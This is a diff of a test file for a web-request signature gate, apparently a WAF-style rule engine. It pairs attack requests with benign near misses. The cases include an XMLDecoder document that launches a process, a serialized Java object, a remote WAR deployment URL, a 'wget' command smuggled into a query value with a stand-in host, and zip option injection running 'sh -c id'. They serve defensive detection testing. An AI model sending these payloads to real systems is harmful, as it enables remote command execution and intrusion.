@@ -3,29 +3,15 @@
  * on the benign value closest to it (the near miss a narrower rule would be tempted to catch).
  */
 import { beforeAll, describe, expect, it } from 'vitest';
-import { fileURLToPath } from 'node:url';
-import { loadRuleSet } from '../../src/signatures/load-rule-set.js';
 import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
 import type { RequestSpec } from './fixtures.js';
-import { buildInspection } from './fixtures.js';
-
-const RULES = fileURLToPath(new URL('../../signatures/warden.rules', import.meta.url));
-const BROWSER: Array<[string, string]> = [
-  ['Host', 'shop.example.com'],
-  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
-];
-const JSON_HEADERS: Array<[string, string]> = [...BROWSER, ['Content-Type', 'application/json']];
-const FORM_HEADERS: Array<[string, string]> = [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']];
+import { BROWSER, JSON_HEADERS, bundledGate, form, header, hitsOf, json, q, xml } from './bundled-requests.js';
 
 let gate: CompiledSignatureGate;
 beforeAll(async () => {
-  gate = (await loadRuleSet([RULES])).gate;
+  gate = await bundledGate();
 });
-const hits = (spec: RequestSpec): Array<[number, string]> => gate.evaluate(buildInspection({ headers: BROWSER, ...spec })).hits.map((h) => [h.sid, h.effect]);
-const q = (query: string): RequestSpec => ({ url: `/search?${query}` });
-const json = (body: string): RequestSpec => ({ method: 'POST', url: '/api/items', headers: JSON_HEADERS, body });
-const form = (body: string): RequestSpec => ({ method: 'POST', url: '/submit', headers: FORM_HEADERS, body });
-const header = (name: string, value: string): RequestSpec => ({ headers: [...BROWSER, [name, value]] });
+const hits = (spec: RequestSpec): Array<[number, string]> => hitsOf(gate, spec);
 
 // [sid, effect, attack, benign near miss]
 const CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec, RequestSpec]> = [
@@ -119,11 +105,10 @@ describe('bundled rules for the issue-14 attack families', () => {
 
 // Issue 18: exploit classes and known-vulnerable endpoints. Written from what each vulnerability needs,
 // not from the exploit generator's templates; [sid, effect, attack, benign near miss].
-const XML_HEADERS: Array<[string, string]> = [...BROWSER, ['Content-Type', 'text/xml']];
-const xml = (url: string, body: string): RequestSpec => ({ method: 'POST', url, headers: XML_HEADERS, body });
+const xmlAt = (url: string, body: string): RequestSpec => xml(body, url);
 const EXPLOIT_CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec, RequestSpec]> = [
-  [9001006, 'block', 'a base64 Java object as an XML element text', xml('/rpc', '<value><serializable>rO0ABXNyABNqYXZhLnV0aWwuQXJyYXlMaXN0</serializable></value>'), xml('/rpc', '<value><string>rO0 is not base64 here</string></value>')],
-  [9001012, 'block', 'an XMLDecoder document starting a process', xml('/svc', '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>'), xml('/svc', '<java class="java.beans.XMLDecoder"><object class="java.util.ArrayList"><void method="add"><string>a</string></void></object></java>')],
+  [9001006, 'block', 'a base64 Java object as an XML element text', xmlAt('/rpc', '<value><serializable>rO0ABXNyABNqYXZhLnV0aWwuQXJyYXlMaXN0</serializable></value>'), xmlAt('/rpc', '<value><string>rO0 is not base64 here</string></value>')],
+  [9001012, 'block', 'an XMLDecoder document starting a process', xmlAt('/svc', '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>'), xmlAt('/svc', '<java class="java.beans.XMLDecoder"><object class="java.util.ArrayList"><void method="add"><string>a</string></void></object></java>')],
   [9000507, 'block', 'a remote WAR handed to a deployer', q('action=invoke&arg0=http%3A%2F%2Fx.test%2Fapp.war'), q('download=https%3A%2F%2Fx.test%2Fsoftware.html&doc=war.pdf')],
   [9000312, 'suspicious', 'a separator and a command at the start of a URI value', q('host=%3Bwget+http%3A%2F%2Fx.test%2Fa'), q('q=%3B+semicolons+in+prose&sep=%7C')],
   [9000313, 'block', 'zip option injection in a file name', q('cmd=archive&name=-TmTT%3Dsh+-c+id+a.zip'), q('name=-T-shirt+sizes&title=--draft--')],
